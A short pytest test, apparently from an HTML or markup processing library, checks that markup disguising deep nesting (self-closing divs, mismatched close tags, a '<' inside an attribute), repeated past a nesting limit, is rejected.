@pytest.mark.parametrize("open_one", ["<div/>", "<div></x>", '<div title="<">'])
def test_nesting_in_disguise_is_too_deep_as_well(open_one: str) -> None:
    made, _ = prose(making.clean(making.file(body=open_one * (NESTING + 50) + "甲")), making.CUSTOMERS)
    assert made is None
